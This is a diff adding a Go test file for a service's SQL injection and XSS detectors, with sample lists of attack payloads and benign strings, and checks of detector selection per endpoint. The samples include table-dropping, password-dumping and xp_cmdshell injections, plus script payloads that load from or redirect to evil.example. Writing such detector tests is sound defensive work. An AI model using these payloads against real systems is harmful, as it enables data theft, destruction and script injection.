@@ -0,0 +1,261 @@
+package services
+
+import (
+	"context"
+	"fmt"
+	"testing"
+
+	"scopeapi.local/backend/services/threat-detection/internal/models"
+	"scopeapi.local/backend/services/threat-detection/internal/repository"
+	"scopeapi.local/backend/shared/logging"
+)
+
+var sqlInjectionSamples = []string{
+	"1 or 1=1",
+	"-1 OR 2>1--",
+	"1 union select 1,2,3",
+	"-1 UNION ALL SELECT null,version()--",
+	"1; DROP TABLE users",
+	"1 AND sleep(5)",
+	"1 and (select count(*) from users)>0",
+	"1 waitfor delay '0:0:5'",
+	"1 order by 5--",
+	"admin'--",
+	"admin' #",
+	"' or '1'='1",
+	"' OR 1=1--",
+	"1' and '1'='1",
+	"x' AND 1=(SELECT COUNT(*) FROM tabname); --",
+	"') or ('a'='a",
+	"' union select username, password from users--",
+	"'; exec xp_cmdshell('dir')--",
+	"' and sleep(5)#",
+	"' || pg_sleep(5)--",
+	"'+benchmark(5000000,md5(1))+'",
+	"\" or \"\"=\"",
+	"' order by 3--",
+	"1 AND extractvalue(1,concat(0x7e,version()))",
+}
+
+var sqlBenignSamples = []string{
+	"Tom and Jerry",
+	"rock 'n' roll",
+	"O'Reilly and sons",
+	"the dogs' and cats' food",
+	"It's 5 or 6 o'clock",
+	"Please select an option from the list",
+	"union station",
+	"drop-off at 5; pick up at 6",
+	"I'd like to update my order by Friday",
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+	"text/html,application/xhtml+xml,application/xml;q=0.9",
+	"session=abc123; theme=dark",
+	"SELECT your size below",
+	"1-800-555-0199",
+	"we're open 9-5 -- call us",
+	"price >= 10 and price <= 20",
+}
+
+var xssSamples = []string{
+	"<script>alert(1)</script>",
+	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+	"<img src=x onerror=alert(1)>",
+	"<svg/onload=alert(1)>",
+	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+	"<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
+	"<body onload=alert(1)>",
+	"\" onmouseover=\"alert(1)",
+	"' autofocus onfocus='alert(1)",
+	"x onerror=alert(1)",
+	"\"><script>alert(1)</script>",
+	"<div style=\"width: expression(alert(1))\">",
+	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+	"';alert(1)//",
+	"\"-confirm`1`-\"",
+	"';location='//evil.example'//",
+	"<details open ontoggle=prompt(1)>",
+	"<form><button formaction=javascript:alert(1)>x",
+}
+
+var xssBenignSamples = []string{
+	"Use <b>bold</b> and <i>italics</i>",
+	"<p>Hello <a href=\"https://example.com\">world</a></p>",
+	"<img src=\"cat.png\" alt=\"a cat\">",
+	"if a < b and b > c then",
+	"Fix onclick handler bug in the settings page",
+	"She said \"hello\" online",
+	"It's a script for the play",
+	"it's fine - really",
+	"the prompt (on screen) said 'alert'",
+	"javascript: the good parts",
+	"Meet at 5 o'clock; alert the team",
+}
+
+func TestSQLFingerprints(t *testing.T) {
+	tests := []struct {
+		value       string
+		quote       byte
+		fingerprint string
+	}{
+		{"1 or 1=1", 0, "1&1o1"},
+		{"' or '1'='1", '\'', "s&sos"},
+		{"admin'--", '\'', "sc"},
+		{"-1 union all select 1,2", 0, "1UkE1"},
+		{"1+1 or 2-1=1", 0, "1&1o1"},
+		{"1/**/and/**/sleep(5)", 0, "1&f(1"},
+		{"' order by 1#", '\'', "sB1c"},
+		{"(1) or 1", 0, "1)&1"},
+		{"@@version", 0, "v"},
+		{"Tom and Jerry", 0, "n&n"},
+	}
+	for _, tt := range tests {
+		if got := sqlFingerprint(tt.value, tt.quote); got != tt.fingerprint {
+			t.Errorf("sqlFingerprint(%q, %q) = %q, want %q", tt.value, tt.quote, got, tt.fingerprint)
+		}
+	}
+}
+
+func TestDetectSQLInjectionShape(t *testing.T) {
+	for _, sample := range sqlInjectionSamples {
+		if _, ok := detectSQLInjectionShape(sample); !ok {
+			t.Errorf("missed %q (as_is %q, single_quote %q)", sample, sqlFingerprint(sample, 0), sqlFingerprint(sample, '\''))
+		}
+	}
+	for _, sample := range sqlBenignSamples {
+		if match, ok := detectSQLInjectionShape(sample); ok {
+			t.Errorf("flagged %q as %s (%s in %s)", sample, match.shape, match.fingerprint, match.context)
+		}
+	}
+}
+
+func TestDetectXSSShape(t *testing.T) {
+	for _, sample := range xssSamples {
+		if _, ok := detectXSSShape(sample); !ok {
+			t.Errorf("missed %q", sample)
+		}
+	}
+	for _, sample := range xssBenignSamples {
+		if match, ok := detectXSSShape(sample); ok {
+			t.Errorf("flagged %q as %s (%s in %s)", sample, match.shape, match.token, match.context)
+		}
+	}
+
+	match, _ := detectXSSShape("\" onmouseover=\"alert(1)")
+	if match.context != "attribute_double_quote" || match.token != "onmouseover=alert(1)" {
+		t.Errorf("attribute breakout = %+v", match)
+	}
+}
+
+// TestLexicalDetectorFalsePositives compares both detectors on the same
+// free-text and attack samples
+func TestLexicalDetectorFalsePositives(t *testing.T) {
+	service := NewThreatDetectionService(repository.NewMemoryThreatRepository(), nil, logging.NewStructuredLogger("test"))
+	count := func(detect injectionDetectorFunc, samples []string) int {
+		flagged := 0
+		for _, sample := range samples {
+			threats, _ := detect(context.Background(), map[string]interface{}{"request": map[string]interface{}{
+				"parameters": map[string]interface{}{"q": sample},
+			}})
+			if len(threats) > 0 {
+				flagged++
+			}
+		}
+		return flagged
+	}
+
+	if keyword, lexical := count(service.detectSQLInjection, sqlBenignSamples), count(service.detectLexicalSQLInjection, sqlBenignSamples); lexical != 0 || keyword <= lexical {
+		t.Errorf("benign SQL samples flagged by keyword %d, lexical %d", keyword, lexical)
+	}
+	if keyword, lexical := count(service.detectXSS, xssBenignSamples), count(service.detectLexicalXSS, xssBenignSamples); lexical != 0 || keyword <= lexical {
+		t.Errorf("benign XSS samples flagged by keyword %d, lexical %d", keyword, lexical)
+	}
+	if lexical := count(service.detectLexicalSQLInjection, sqlInjectionSamples); lexical != len(sqlInjectionSamples) {
+		t.Errorf("lexical detector found %d of %d SQL injections", lexical, len(sqlInjectionSamples))
+	}
+	if lexical := count(service.detectLexicalXSS, xssSamples); lexical != len(xssSamples) {
+		t.Errorf("lexical detector found %d of %d XSS payloads", lexical, len(xssSamples))
+	}
+}
+
+func TestInjectionDetectorSelection(t *testing.T) {
+	service := NewThreatDetectionService(repository.NewMemoryThreatRepository(), nil, logging.NewStructuredLogger("test"))
+	selections := repository.NewMemoryInjectionDetectorRepository()
+	service.SetInjectionDetectorRepository(selections)
+	ctx := context.Background()
+	if err := service.SetInjectionDetector(ctx, "", "regex"); err != ErrInvalidInjectionDetector {
+		t.Fatalf("SetInjectionDetector(regex) = %v", err)
+	}
+	service.SetInjectionDetector(ctx, "search", models.InjectionDetectorLexical)
+	service.SetInjectionDetector(ctx, "comments", models.InjectionDetectorBoth)
+
+	request := func(endpointID, value string) map[string]interface{} {
+		return map[string]interface{}{"request": map[string]interface{}{
+			"endpoint_id": endpointID,
+			"parameters":  map[string]interface{}{"q": value},
+		}}
+	}
+	methods := func(endpointID, value string) string {
+		threats, _ := service.detectInjection(ctx, request(endpointID, value), "sql_injection", service.detectSQLInjection, service.detectLexicalSQLInjection)
+		var methods []string
+		for _, threat := range threats {
+			methods = append(methods, fmt.Sprintf("%s/%d", threat.DetectionMethod, len(threat.Indicators)))
+		}
+		return fmt.Sprint(methods)
+	}
+
+	if got := methods("orders", "please select a size"); got != "[signature/1]" {
+		t.Errorf("default detector = %s", got)
+	}
+	if got := methods("search", "please select a size"); got != "[]" {
+		t.Errorf("lexical detector on free text = %s", got)
+	}
+	if got := methods("search", "1%20union%20select%20password%20from%20users"); got != "[lexical/1]" {
+		t.Errorf("lexical detector on encoded union = %s", got)
+	}
+	// Both detectors flag the parameter, and report it once
+	if got := methods("comments", "' or 1=1--"); got != "[lexical/2]" {
+		t.Errorf("both detectors = %s", got)
+	}
+	methods("comments", "please select a size")
+
+	report, _ := service.GetInjectionDetectors(ctx)
+	want := models.InjectionDetectorComparison{Requests: 2, KeywordDetections: 2, LexicalDetections: 1, Agreed: 1, KeywordOnly: 1}
+	if got := report.Comparisons["comments"]["sql_injection"]; got != want {
+		t.Errorf("comparison = %+v, want %+v", got, want)
+	}
+	if _, ok := report.Comparisons["search"]; ok {
+		t.Errorf("comparison recorded for an endpoint running one detector")
+	}
+
+	service.ResetInjectionDetector(ctx, "search")
+	if got := methods("search", "please select a size"); got != "[signature/1]" {
+		t.Errorf("after reset = %s", got)
+	}
+
+	// A restarted service picks up the selections made through the API
+	restarted := NewThreatDetectionService(repository.NewMemoryThreatRepository(), nil, logging.NewStructuredLogger("test"))
+	restarted.SetInjectionDetectorRepository(selections)
+	if err := restarted.LoadInjectionDetectors(ctx); err != nil {
+		t.Fatalf("LoadInjectionDetectors: %v", err)
+	}
+	if report, _ := restarted.GetInjectionDetectors(ctx); fmt.Sprint(report.Endpoints) != "map[comments:both]" || report.Default != models.InjectionDetectorKeyword {
+		t.Errorf("restored detectors = %v, default %s", report.Endpoints, report.Default)
+	}
+}
+
+func TestInjectionComparisonsBounded(t *testing.T) {
+	detectors := newInjectionDetectors()
+	for i := 0; i < maxComparedEndpoints+10; i++ {
+		detectors.record(fmt.Sprintf("endpoint-%d", i), "xss", true, false)
+		detectors.record("endpoint-0", "xss", false, true)
+	}
+	if len(detectors.comparisons) != maxComparedEndpoints || detectors.compared.Len() != maxComparedEndpoints {
+		t.Fatalf("kept %d comparisons", len(detectors.comparisons))
+	}
+	if _, ok := detectors.comparisons["endpoint-1"]; ok {
+		t.Errorf("least recently compared endpoint kept")
+	}
+	if _, ok := detectors.comparisons["endpoint-0"]; !ok {
+		t.Errorf("recently compared endpoint dropped")
+	}
+}